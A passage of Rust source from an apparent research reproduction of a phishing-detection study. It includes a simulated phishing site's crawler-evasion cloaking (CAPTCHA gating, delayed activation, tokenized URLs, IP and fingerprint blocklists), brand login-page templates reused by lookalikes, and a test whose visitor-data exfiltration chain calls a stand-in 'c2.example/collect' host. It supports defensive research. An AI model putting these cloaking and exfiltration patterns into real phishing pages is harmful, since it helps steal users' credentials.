        // by the challenge step below instead.
        let report = ChallengeReport::from_request(req);
        if counter.profile_burn_after > 0 {
            if let Some(r) = report.as_ref() {
                let sig = report_signature(r);
                let mut mem = self.memory.lock();
                let prior = *mem.profile_seen.get(&sig).unwrap_or(&0);
                mem.profile_seen.insert(sig, prior + 1);
                drop(mem);
                if prior >= counter.profile_burn_after {
                    self.stats.lock().counter_blocked += 1;
                    return self.benign("fingerprint blocklisted");
                }
            }
        }

        // 5. Bot challenges over the client attestation (see DESIGN.md §4).
        if self.waf || self.cloak.client.turnstile || self.cloak.client.recaptcha_v3 {
            let Some(report) = report.as_ref() else {
                // no-JS clients never complete a challenge
                return self.benign("challenge unanswered");
            };
            if self.waf && !AnonWaf::default().evaluate(report).is_human() {
                return self.benign("waf block");
            }
            if self.cloak.client.turnstile
                && !Turnstile::default().evaluate(report).is_human()
            {
                return self.benign("turnstile failed");
            }
            if self.cloak.client.recaptcha_v3
                && !ReCaptchaV3::default().evaluate(report).is_human()
            {
                return self.benign("recaptcha v3 low score");
            }
        }

        // 6. Interaction gates.
        if self.cloak.client.otp_gate && req.url.query_param("otp") != Some(&self.otp_code) {
            return self.gate("otp", "Enter the one-time password we sent you");
        }
        if self.cloak.client.math_challenge {
            // 17 + 25: the kind of trivial equation the paper describes.
            if req.url.query_param("answer") != Some("42") {
                return self.gate("math", "What is 17 + 25?");
            }
        }

        // 7. The phish.
        self.phish_page()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cloak::{ClientCloak, CounterCloak, ServerCloak};
    use cb_browser::{Browser, CrawlerProfile, VisitOutcome};
    use cb_netsim::Internet;
    use cb_sim::{SimDuration, SimTime};

    fn world() -> Internet {
        let net = Internet::new(SimTime::from_ymd(2024, 2, 1));
        net.register_domain("evil-site.example", "REGRU-RU");
        net.register_domain("c2.example", "REGRU-RU");
        net.host("c2.example", crate::C2Server::new());
        net
    }

    fn deploy(net: &Internet, cloak: CloakConfig) -> PhishingSite {
        let site = PhishingSite::new(Brand::Amadora, "https://c2.example", cloak);
        net.host("evil-site.example", site.clone());
        site
    }

    #[test]
    fn uncloaked_site_serves_phish_to_everyone() {
        let net = world();
        let site = deploy(&net, CloakConfig::none());
        let v = Browser::new(CrawlerProfile::Kangooroo).visit(&net, "https://evil-site.example/");
        assert!(v.shows_login_form());
        assert_eq!(site.stats().phish_served, 1);
    }

    #[test]
    fn turnstile_blocks_naive_crawlers_but_not_notabot() {
        let net = world();
        let site = deploy(&net, CloakConfig::typical_2024());
        let naive =
            Browser::new(CrawlerProfile::PuppeteerStealth).visit(&net, "https://evil-site.example/");
        assert!(!naive.shows_login_form(), "stealth-plugin crawler must see benign page");
        let nab = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(nab.shows_login_form(), "NotABot defeats Turnstile");
        assert_eq!(site.stats().benign_served, 1);
        assert_eq!(site.stats().phish_served, 1);
    }

    #[test]
    fn waf_protection_blocks_interception_artifacts() {
        let net = world();
        let site = PhishingSite::new(Brand::Amadora, "https://c2.example", CloakConfig::none())
            .with_waf();
        net.host("evil-site.example", site.clone());
        let pup = Browser::new(CrawlerProfile::PuppeteerStealth)
            .visit(&net, "https://evil-site.example/");
        assert!(!pup.shows_login_form());
        let nab = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(nab.shows_login_form());
    }

    #[test]
    fn delayed_activation_flips_with_time() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak {
                activate_at: Some(SimTime::from_ymd(2024, 2, 2)),
                ..ServerCloak::default()
            },
            client: ClientCloak::default(),
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let before = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(!before.shows_login_form(), "inactive: benign page");
        net.advance(SimDuration::days(2));
        let after = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(after.shows_login_form(), "activated");
    }

    #[test]
    fn mobile_only_filter_requires_mobile_ua() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak {
                mobile_ua_only: true,
                ..ServerCloak::default()
            },
            client: ClientCloak::default(),
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let desktop = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(!desktop.shows_login_form());
        // a phone request
        let mut req = HttpRequest::get("https://evil-site.example/");
        req.set_header(
            "User-Agent",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile/15E148",
        );
        let resp = net.request(req);
        assert!(resp.body_text().contains("password"));
    }

    #[test]
    fn tokenized_urls_gate_access_and_burn() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak {
                valid_tokens: vec!["dhfYWfH1".to_string()],
                burned_tokens: vec!["burned99".to_string()],
                ..ServerCloak::default()
            },
            client: ClientCloak::default(),
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        assert!(b.visit(&net, "https://evil-site.example/dhfYWfH1").shows_login_form());
        assert!(!b.visit(&net, "https://evil-site.example/").shows_login_form());
        assert!(!b.visit(&net, "https://evil-site.example/wrongtok").shows_login_form());
        assert!(!b.visit(&net, "https://evil-site.example/burned99").shows_login_form());
    }

    #[test]
    fn ip_blocklist_rejects_datacenter_class() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak {
                block_datacenter_ips: true,
                ..ServerCloak::default()
            },
            client: ClientCloak::default(),
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        // NotABot on a datacenter IP (the ablation profile) is filtered.
        let dc = Browser::new(CrawlerProfile::NotABotDatacenterIp)
            .visit(&net, "https://evil-site.example/");
        assert!(!dc.shows_login_form());
        let mobile = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(mobile.shows_login_form());
    }

    #[test]
    fn otp_gate_requires_the_code() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak::default(),
            client: ClientCloak {
                otp_gate: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        let gated = b.visit(&net, "https://evil-site.example/");
        assert_eq!(gated.outcome, VisitOutcome::InteractionRequired);
        assert!(!gated.shows_login_form());
        // the victim, who received the OTP out of band
        let through = b.visit(&net, "https://evil-site.example/?otp=491827");
        assert!(through.shows_login_form());
    }

    #[test]
    fn math_challenge_gates_until_answered() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak::default(),
            client: ClientCloak {
                math_challenge: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        assert_eq!(
            b.visit(&net, "https://evil-site.example/").outcome,
            VisitOutcome::InteractionRequired
        );
        assert!(b
            .visit(&net, "https://evil-site.example/?answer=42")
            .shows_login_form());
    }

    #[test]
    fn cloaked_page_carries_configured_scripts() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak::default(),
            client: ClientCloak {
                console_hijack: true,
                hue_rotate: true,
                exfil_visitor_data: true,
                exfil_with_geo: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        // httpbin/ipapi style services must exist for exfil
        net.register_domain("httpbin.example", "REG");
        net.register_domain("ipapi.example", "REG");
        net.host("httpbin.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("text/plain", b"100.0.0.9".to_vec())
        });
        net.host("ipapi.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("text/plain", b"FR;AS9999".to_vec())
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(v.shows_login_form());
        assert!(v.console_hijacked, "console methods hijacked");
        // exfil chain fired: httpbin, ipapi, c2
        assert_eq!(v.exfil.len(), 3);
        assert!(v.exfil[2].0.contains("c2.example/collect"));
    }

    #[test]
    fn egress_reputation_burns_a_repeating_class() {
        let net = world();
        let cloak = CloakConfig {
            counter: CounterCloak {
                egress_burn_after: 2,
                ..CounterCloak::default()
            },
            ..CloakConfig::none()
        };
        let site = deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        assert!(b.visit(&net, "https://evil-site.example/").shows_login_form());
        assert!(b.visit(&net, "https://evil-site.example/").shows_login_form());
        assert!(
            !b.visit(&net, "https://evil-site.example/").shows_login_form(),
            "third request from the mobile class reads as a scanner farm"
        );
        assert_eq!(site.stats().counter_blocked, 1);
        // Rotating to a fresh egress class gets through again.
        let rotated = Browser::new(CrawlerProfile::NotABot).with_fingerprint(
            cb_browser::BrowserFingerprint {
                ip_class: cb_netsim::IpClass::Residential,
                ..CrawlerProfile::NotABot.fingerprint()
            },
        );
        assert!(rotated.visit(&net, "https://evil-site.example/").shows_login_form());
    }

    #[test]
    fn profile_blocklist_burns_a_returning_device_but_not_a_mutated_one() {
        let net = world();
        let cloak = CloakConfig {
            counter: CounterCloak {
                profile_burn_after: 1,
                ..CounterCloak::default()
            },
            ..CloakConfig::none()
        };
        let site = deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        assert!(b.visit(&net, "https://evil-site.example/").shows_login_form());
        assert!(
            !b.visit(&net, "https://evil-site.example/").shows_login_form(),
            "the same measured environment returning is blocklisted"
        );
        assert_eq!(site.stats().counter_blocked, 1);
        // A single-axis mutation (different UA string) is a new device.
        let mutated = Browser::new(CrawlerProfile::NotABot).with_fingerprint(
            cb_browser::BrowserFingerprint {
                user_agent: "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 \
                             (KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36"
                    .to_string(),
                ..CrawlerProfile::NotABot.fingerprint()
            },
        );
        assert!(mutated.visit(&net, "https://evil-site.example/").shows_login_form());
    }

    #[test]
    fn delayed_reveal_requires_patience() {
        let net = world();
        let cloak = CloakConfig {
            counter: CounterCloak {
                reveal_delay_secs: 120,
                ..CounterCloak::default()
            },
            ..CloakConfig::none()
        };
        deploy(&net, cloak);
        // NotABot's 60 s patience is not enough for a 120 s reveal.
        let hasty = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(!hasty.shows_login_form());
        assert!(
            hasty.document.unwrap().visible_text().contains("Preparing your document"),
            "impatient crawler is stuck on the holding page"
        );
        // A patient arm waits the reveal out.
        let patient = Browser::new(CrawlerProfile::NotABot)
            .with_patience(300)
            .visit(&net, "https://evil-site.example/");
        assert!(patient.shows_login_form());
        assert_eq!(patient.final_url().query, "revealed=1");
    }

    #[test]
    fn delayed_reveal_preserves_existing_query_params() {
        let net = world();
        let cloak = CloakConfig {
            client: ClientCloak {
                otp_gate: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak {
                reveal_delay_secs: 30,
                ..CounterCloak::default()
            },
            ..CloakConfig::none()
        };
        deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        let v = b.visit(&net, "https://evil-site.example/?otp=491827");
        assert!(v.shows_login_form(), "otp param survives the reveal redirect");
        assert!(v.final_url().query.contains("otp=491827"));
        assert!(v.final_url().query.contains("revealed=1"));
    }

    #[test]
    fn benign_and_phish_counters_track() {
        let net = world();
        let site = deploy(&net, CloakConfig::typical_2024());
        for _ in 0..3 {
            Browser::new(CrawlerProfile::Lacus).visit(&net, "https://evil-site.example/");
        }
        Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        let stats = site.stats();
        assert_eq!(stats.benign_served, 3);
        assert_eq!(stats.phish_served, 1);
    }
}
