//! Impersonated brands and their legitimate login pages.
//!
//! The study covers five companies (one multinational travel-tech firm and
//! four it protects) whose *legitimate* login pages CrawlerBox compares
//! screenshots against (§V-A), plus the commodity services non-targeted
//! campaigns impersonate (§V-B). Each brand renders a distinctive login
//! page; lookalikes reuse the template with attacker modifications.

use cb_netsim::{HttpRequest, HttpResponse, NetContext, SiteHandler};
use serde::{Deserialize, Serialize};
use std::fmt;

/// An impersonation target.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Brand {
    /// The multinational travel-technology corporation (the study's host).
    Amadora,
    /// Travel platform subsidiary.
    SkyBook,
    /// Revenue-management subsidiary.
    FareLogic,
    /// Payments subsidiary.
    PayRoute,
    /// Content-aggregation subsidiary.
    TripAggregate,
    /// Generic fake Microsoft login (44 messages in §V-B).
    Microsoft,
    /// Microsoft Excel lure (20 messages).
    Excel,
    /// OneDrive lure (12 messages).
    OneDrive,
    /// Office 365 lure (11 messages).
    Office365,
    /// DocuSign lure (1 message).
    DocuSign,
    /// The long tail (42 messages).
    Other,
}

impl Brand {
    /// The five studied companies — the spear-phishing reference set.
    pub fn companies() -> [Brand; 5] {
        [
            Brand::Amadora,
            Brand::SkyBook,
            Brand::FareLogic,
            Brand::PayRoute,
            Brand::TripAggregate,
        ]
    }

    /// Commodity services used by non-targeted campaigns, with the §V-B
    /// message counts.
    pub fn commodity_services() -> [(Brand, usize); 6] {
        [
            (Brand::Microsoft, 44),
            (Brand::Excel, 20),
            (Brand::OneDrive, 12),
            (Brand::Office365, 11),
            (Brand::DocuSign, 1),
            (Brand::Other, 42),
        ]
    }

    /// The brand's legitimate domain.
    pub fn legit_domain(self) -> &'static str {
        match self {
            Brand::Amadora => "login.amadora.example",
            Brand::SkyBook => "sso.skybook.example",
            Brand::FareLogic => "portal.farelogic.example",
            Brand::PayRoute => "secure.payroute.example",
            Brand::TripAggregate => "id.tripaggregate.example",
            Brand::Microsoft => "login.microsoftonline.example",
            Brand::Excel => "excel.office.example",
            Brand::OneDrive => "onedrive.live.example",
            Brand::Office365 => "office365.example",
            Brand::DocuSign => "account.docusign.example",
            Brand::Other => "sso.generic-saas.example",
        }
    }

    /// Display name shown on the login page.
    pub fn display_name(self) -> &'static str {
        match self {
            Brand::Amadora => "Amadora",
            Brand::SkyBook => "SkyBook",
            Brand::FareLogic => "FareLogic",
            Brand::PayRoute => "PayRoute",
            Brand::TripAggregate => "TripAggregate",
            Brand::Microsoft => "Microsoft",
            Brand::Excel => "Microsoft Excel",
            Brand::OneDrive => "OneDrive",
            Brand::Office365 => "Office 365",
            Brand::DocuSign => "DocuSign",
            Brand::Other => "CloudPortal",
        }
    }

    /// Brand colour (header band), making each template visually distinct.
    pub fn color(self) -> &'static str {
        match self {
            Brand::Amadora => "#1033a0",
            Brand::SkyBook => "#0b7a4b",
            Brand::FareLogic => "#7a0b5e",
            Brand::PayRoute => "#a05a10",
            Brand::TripAggregate => "#106ba0",
            Brand::Microsoft => "#00a4ef",
            Brand::Excel => "#1d6f42",
            Brand::OneDrive => "#0364b8",
            Brand::Office365 => "#d83b01",
            Brand::DocuSign => "#4c00ff",
            Brand::Other => "#555555",
        }
    }

    /// URL of the brand's logo on its own infrastructure — the resource
    /// lookalikes hotlink (§V-A: 29.8% load the logo and background from
    /// the impersonated organization's domains).
    pub fn logo_url(self) -> String {
        format!("https://{}/assets/logo.png", self.legit_domain())
    }

    /// URL of the brand's background image.
    pub fn background_url(self) -> String {
        format!("https://{}/assets/background.jpg", self.legit_domain())
    }

    /// `true` for the five studied companies.
    pub fn is_company(self) -> bool {
        Brand::companies().contains(&self)
    }

    /// Shared page template: the brand's login page parameterized by where
    /// the form posts, which assets it loads, and attacker extras. The
    /// legitimate site and the lookalike generator both render through this,
    /// which is exactly why lookalikes hash close to their originals. Each
    /// company has a structurally distinct layout (as real corporate SSO
    /// pages do), so the classifier can tell the five references apart.
    #[allow(clippy::too_many_arguments)]
    pub fn page_template(
        self,
        form_action: &str,
        logo: &str,
        background: Option<&str>,
        head_extra: &str,
        body_attr: &str,
        extra_body: &str,
    ) -> String {
        let name = self.display_name();
        let color = self.color();
        let bg_img = background
            .map(|b| format!("<img src=\"{b}\">\n"))
            .unwrap_or_default();
        let form = format!(
            r#"<form action="{form_action}" method="post">
  <input type="text" name="username">
  <input type="password" name="password">
  <input type="submit" value="Sign in">
</form>"#
        );
        let body = match self {
            Brand::Amadora => format!(
                r#"<header style="background-color: {color}">{name} Single Sign-On</header>
<img src="{logo}">
{form}
<p>Use your {name} corporate account</p>
{bg_img}"#
            ),
            Brand::SkyBook => format!(
                r#"<header style="background-color: {color}">{name}</header>
<p>Welcome back. Sign in to continue to {name}.</p>
{form}
<img src="{logo}">
<p>Trouble signing in? Contact your administrator.</p>
<hr>
{bg_img}"#
            ),
            Brand::FareLogic => format!(
                r#"<img src="{logo}">
<header style="background-color: {color}">{name} Portal</header>
<p>Revenue management suite</p>
<hr>
{form}
<p>All activity is monitored.</p>
<p>© {name}</p>
{bg_img}"#
            ),
            Brand::PayRoute => format!(
                r#"<header style="background-color: {color}">{name} Secure Payments</header>
<h2>Operator sign-in</h2>
{form}
<hr>
<img src="{logo}">
<p>PCI-DSS compliant environment</p>
{bg_img}"#
            ),
            Brand::TripAggregate => format!(
                r#"<p>{name} partner network</p>
<img src="{logo}">
<header style="background-color: {color}">{name} ID</header>
{form}
<hr>
<p>One identity for every integration.</p>
<p>Need access? Request an account.</p>
<hr>
{bg_img}"#
            ),
            // Commodity services share the generic cloud-login skeleton.
            _ => format!(
                r#"<p>{name}</p>
<p>One account. One place to manage it all.</p>
<hr>
<form action="{form_action}" method="post">
  <input type="text" name="email">
  <hr>
  <input type="password" name="password">
  <hr>
  <input type="submit" value="Next">
</form>
<p>No account? Create one now</p>
<p>Privacy and cookies - Terms of use</p>
<img src="{logo}">
{bg_img}"#
            ),
        };
        format!(
            "<html><head><title>{name} - Sign in</title>{head_extra}</head>\n<body{body_attr}>\n{body}\n{extra_body}\n</body></html>"
        )
    }

    /// The brand's legitimate login page HTML.
    pub fn login_html(self, extra_body: &str) -> String {
        self.page_template(
            &format!("https://{}/session", self.legit_domain()),
            &self.logo_url(),
            None,
            "",
            "",
            extra_body,
        )
    }
}

impl fmt::Display for Brand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.display_name())
    }
}

/// The brand's legitimate site: serves the login page and its asset
/// resources. Host this on [`Brand::legit_domain`] so hotlinked requests
/// resolve — and record asset-request referrals, the paper's §V-A
/// early-detection defence: "by identifying referrals in requests made for
/// the aforementioned web resources within their own systems, organizations
/// can track, at early stages, pages impersonating their login sites."
#[derive(Debug, Clone)]
pub struct LegitSite {
    /// The brand served.
    pub brand: Brand,
    referrals: std::sync::Arc<parking_lot::Mutex<Vec<String>>>,
}

impl LegitSite {
    /// A legit site for `brand` with an empty referral log.
    pub fn new(brand: Brand) -> LegitSite {
        LegitSite {
            brand,
            referrals: std::sync::Arc::default(),
        }
    }

    /// Foreign Referer values observed on asset requests — each one is a
    /// page hotlinking this organization's resources.
    pub fn foreign_referrals(&self) -> Vec<String> {
        self.referrals.lock().clone()
    }
}

impl SiteHandler for LegitSite {
    fn handle(&self, req: &HttpRequest, _ctx: &NetContext<'_>) -> HttpResponse {
        if req.url.path.starts_with("/assets/") {
            if let Some(referer) = req.header("Referer") {
                if !referer.contains(self.brand.legit_domain()) {
                    self.referrals.lock().push(referer.to_string());
                }
            }
        }
        match req.url.path.as_str() {
            "/assets/logo.png" => HttpResponse::ok(
                "image/png",
                vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A],
            ),
            "/assets/background.jpg" => {
                HttpResponse::ok("image/jpeg", vec![0xFF, 0xD8, 0xFF, 0xE0])
            }
            "/session" => HttpResponse::html("<p>Signed in</p>"),
            _ => HttpResponse::html(&self.brand.login_html("")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn five_companies_and_six_services() {
        assert_eq!(Brand::companies().len(), 5);
        let total: usize = Brand::commodity_services().iter().map(|(_, n)| n).sum();
        assert_eq!(total, 130, "§V-B: 130 unique non-targeted pages");
    }

    #[test]
    fn domains_are_distinct() {
        use std::collections::HashSet;
        let mut all: Vec<Brand> = Brand::companies().to_vec();
        all.extend(Brand::commodity_services().iter().map(|(b, _)| *b));
        let domains: HashSet<&str> = all.iter().map(|b| b.legit_domain()).collect();
        assert_eq!(domains.len(), all.len());
    }

    #[test]
    fn login_page_has_credential_form_and_hotlinks() {
        let doc = cb_web::Document::parse(&Brand::Amadora.login_html(""));
        assert!(doc.has_password_field());
        assert!(doc
            .resource_urls()
            .contains(&Brand::Amadora.logo_url()));
        assert_eq!(doc.title(), Some("Amadora - Sign in".to_string()));
    }

    #[test]
    fn legit_site_serves_assets() {
        use cb_sim::SimTime;
        let net = cb_netsim::Internet::new(SimTime::from_ymd(2024, 1, 1));
        let brand = Brand::SkyBook;
        net.register_domain(brand.legit_domain(), "CORP-REG");
        net.host(brand.legit_domain(), LegitSite::new(brand));
        let page = net.request(HttpRequest::get(&format!(
            "https://{}/",
            brand.legit_domain()
        )));
        assert_eq!(page.status, 200);
        assert!(page.body_text().contains("SkyBook"));
        let logo = net.request(HttpRequest::get(&brand.logo_url()));
        assert_eq!(logo.status, 200);
        assert_eq!(logo.header("Content-Type"), Some("image/png"));
    }

    #[test]
    fn brand_pages_render_distinctly() {
        use cb_imagehash::HashPair;
        use cb_web::{render, Document};
        let a = render::rasterize(&Document::parse(&Brand::Amadora.login_html("")), 480, 320);
        let m = render::rasterize(&Document::parse(&Brand::Microsoft.login_html("")), 480, 320);
        // same structural template ⇒ some similarity, but header text and
        // colours must not be pixel-identical
        assert_ne!(a, m);
        let self_dist = HashPair::of(&a).distance(&HashPair::of(&a));
        assert_eq!(self_dist, 0);
    }
}
