#![warn(missing_docs)]

//! Statistics toolkit backing the paper's §V analysis.
//!
//! Everything CrawlerBox reports numerically flows through here: medians and
//! percentiles of timedelta distributions, the excess kurtosis values of
//! Figure 3's fat tails (8.4 / 6.4), histogram bucketing, and the paired
//! t-test of footnote 1 (2023 vs 2024 monthly phishing volume, p = 0.008).
//!
//! Implemented from scratch (Lanczos log-gamma, Lentz continued fraction for
//! the regularized incomplete beta) so the reproduction has no numeric
//! dependencies.
//!
//! # Example
//!
//! ```
//! use cb_stats::{describe::Describe, ttest::paired_t_test};
//!
//! let hours = [575.0, 120.0, 2000.0, 40.0, 575.0];
//! let d = Describe::of(&hours);
//! assert_eq!(d.median, 575.0);
//!
//! let y2023 = [1959.0, 1533.0, 1249.0];
//! let y2024 = [900.0, 700.0, 500.0];
//! let t = paired_t_test(&y2023, &y2024).unwrap();
//! assert!(t.p_two_sided < 0.05);
//! ```

pub mod describe;
pub mod histogram;
pub mod special;
pub mod streaming;
pub mod ttest;

pub use describe::Describe;
pub use histogram::Histogram;
pub use streaming::{Moments, P2Quantile};
pub use ttest::{paired_t_test, TTestResult};

/// Hamming distance between two 64-bit hashes (used by the image-hash crate
/// and by spear-phishing classification thresholds).
pub fn hamming64(a: u64, b: u64) -> u32 {
    (a ^ b).count_ones()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hamming_basics() {
        assert_eq!(hamming64(0, 0), 0);
        assert_eq!(hamming64(u64::MAX, 0), 64);
        assert_eq!(hamming64(0b1011, 0b0001), 2);
    }
}
