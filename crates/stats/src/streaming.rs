//! Incremental, bounded-memory statistics for streaming pipelines.
//!
//! [`Describe`](crate::describe::Describe) needs the whole sample in
//! memory; a streaming scan can't afford that. [`Moments`] maintains the
//! first four central moments online (Welford's update generalized to
//! higher moments, after Pébay), yielding the same mean / sample-stddev /
//! skewness / excess-kurtosis definitions as `Describe` in O(1) space.
//! [`P2Quantile`] estimates a quantile online with five markers (the P²
//! algorithm of Jain & Chlamtac) — exact up to five observations, an
//! interpolated estimate after.

use serde::{Deserialize, Serialize};

/// Online mean, spread and shape: one [`push`](Moments::push) per
/// observation, O(1) memory, numerically stable single-pass updates.
///
/// Accessor semantics match [`Describe`](crate::describe::Describe):
/// sample standard deviation (n − 1), population third/fourth standardized
/// moments, Fisher excess kurtosis.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct Moments {
    n: u64,
    mean: f64,
    /// Σ(x−mean)², Σ(x−mean)³, Σ(x−mean)⁴ — power sums, not yet divided.
    m2: f64,
    m3: f64,
    m4: f64,
    min: f64,
    max: f64,
}

impl Moments {
    /// An empty accumulator.
    pub fn new() -> Moments {
        Moments::default()
    }

    /// Fold one observation in.
    ///
    /// # Panics
    ///
    /// Panics on non-finite values, mirroring `Describe::of`.
    pub fn push(&mut self, x: f64) {
        assert!(x.is_finite(), "sample contains non-finite values");
        if self.n == 0 {
            self.min = x;
            self.max = x;
        } else {
            self.min = self.min.min(x);
            self.max = self.max.max(x);
        }
        let n0 = self.n as f64;
        self.n += 1;
        let n = self.n as f64;
        let delta = x - self.mean;
        let delta_n = delta / n;
        let delta_n2 = delta_n * delta_n;
        let term1 = delta * delta_n * n0;
        self.mean += delta_n;
        self.m4 += term1 * delta_n2 * (n * n - 3.0 * n + 3.0) + 6.0 * delta_n2 * self.m2
            - 4.0 * delta_n * self.m3;
        self.m3 += term1 * delta_n * (n - 2.0) - 3.0 * delta_n * self.m2;
        self.m2 += term1;
    }

    /// Number of observations folded in.
    pub fn count(&self) -> u64 {
        self.n
    }

    /// Arithmetic mean (0 when empty).
    pub fn mean(&self) -> f64 {
        self.mean
    }

    /// Smallest observation, `None` when empty.
    pub fn min(&self) -> Option<f64> {
        (self.n > 0).then_some(self.min)
    }

    /// Largest observation, `None` when empty.
    pub fn max(&self) -> Option<f64> {
        (self.n > 0).then_some(self.max)
    }

    /// Sample standard deviation (n − 1 denominator; 0 for n < 2).
    pub fn stddev(&self) -> f64 {
        if self.n > 1 {
            (self.m2 / (self.n as f64 - 1.0)).sqrt()
        } else {
            0.0
        }
    }

    /// Skewness (third standardized moment, population definition; 0 for a
    /// spread-free sample).
    pub fn skewness(&self) -> f64 {
        if self.n == 0 {
            return 0.0;
        }
        let n = self.n as f64;
        let m2 = self.m2 / n;
        if m2 > 0.0 {
            (self.m3 / n) / m2.powf(1.5)
        } else {
            0.0
        }
    }

    /// Excess kurtosis (Fisher definition: normal = 0; 0 for a spread-free
    /// sample).
    pub fn kurtosis_excess(&self) -> f64 {
        if self.n == 0 {
            return 0.0;
        }
        let n = self.n as f64;
        let m2 = self.m2 / n;
        if m2 > 0.0 {
            (self.m4 / n) / (m2 * m2) - 3.0
        } else {
            0.0
        }
    }
}

/// Streaming quantile estimator: the P² algorithm (Jain & Chlamtac, 1985).
///
/// Five markers track the running quantile without storing the sample.
/// Exact while n ≤ 5; afterwards the middle marker follows the target
/// quantile with piecewise-parabolic interpolation. Accuracy is ample for
/// headline medians (the paper reports medians of fat-tailed hour
/// distributions at whole-hour granularity).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct P2Quantile {
    p: f64,
    /// Marker heights.
    q: [f64; 5],
    /// Actual marker positions (1-based ranks).
    pos: [f64; 5],
    /// Desired marker positions.
    desired: [f64; 5],
    /// Per-observation increments of the desired positions.
    rate: [f64; 5],
    count: u64,
    /// The first five observations, kept until the markers initialize.
    warmup: Vec<f64>,
}

impl P2Quantile {
    /// An estimator for quantile `p` in `[0, 1]`.
    ///
    /// # Panics
    ///
    /// Panics when `p` is outside `[0, 1]` or non-finite.
    pub fn new(p: f64) -> P2Quantile {
        assert!(
            p.is_finite() && (0.0..=1.0).contains(&p),
            "quantile p out of range"
        );
        P2Quantile {
            p,
            q: [0.0; 5],
            pos: [1.0, 2.0, 3.0, 4.0, 5.0],
            desired: [1.0, 1.0 + 2.0 * p, 1.0 + 4.0 * p, 3.0 + 2.0 * p, 5.0],
            rate: [0.0, p / 2.0, p, (1.0 + p) / 2.0, 1.0],
            count: 0,
            warmup: Vec::with_capacity(5),
        }
    }

    /// A median estimator (`p = 0.5`).
    pub fn median() -> P2Quantile {
        P2Quantile::new(0.5)
    }

    /// Number of observations folded in.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Fold one observation in.
    ///
    /// # Panics
    ///
    /// Panics on non-finite values.
    pub fn push(&mut self, x: f64) {
        assert!(x.is_finite(), "sample contains non-finite values");
        self.count += 1;
        if self.count <= 5 {
            self.warmup.push(x);
            if self.count == 5 {
                self.warmup
                    .sort_by(|a, b| a.partial_cmp(b).expect("finite"));
                for (slot, &v) in self.q.iter_mut().zip(self.warmup.iter()) {
                    *slot = v;
                }
            }
            return;
        }

        // Locate the cell, extending the extremes when x falls outside.
        let k = if x < self.q[0] {
            self.q[0] = x;
            0
        } else if x >= self.q[4] {
            self.q[4] = x;
            3
        } else {
            // q[k] <= x < q[k+1] for some k in 0..=3.
            (0..4)
                .rev()
                .find(|&i| self.q[i] <= x)
                .expect("q[0] <= x inside the marker span")
        };

        for p in &mut self.pos[(k + 1)..] {
            *p += 1.0;
        }
        for (d, r) in self.desired.iter_mut().zip(self.rate) {
            *d += r;
        }

        // Adjust the three interior markers toward their desired ranks.
        for i in 1..4 {
            let diff = self.desired[i] - self.pos[i];
            let ahead = self.pos[i + 1] - self.pos[i];
            let behind = self.pos[i - 1] - self.pos[i];
            if (diff >= 1.0 && ahead > 1.0) || (diff <= -1.0 && behind < -1.0) {
                let d = diff.signum();
                let parabolic = self.q[i]
                    + d / (self.pos[i + 1] - self.pos[i - 1])
                        * ((self.pos[i] - self.pos[i - 1] + d) * (self.q[i + 1] - self.q[i])
                            / (self.pos[i + 1] - self.pos[i])
                            + (self.pos[i + 1] - self.pos[i] - d) * (self.q[i] - self.q[i - 1])
                                / (self.pos[i] - self.pos[i - 1]));
                self.q[i] = if self.q[i - 1] < parabolic && parabolic < self.q[i + 1] {
                    parabolic
                } else {
                    // Parabolic prediction left the bracket: fall back to
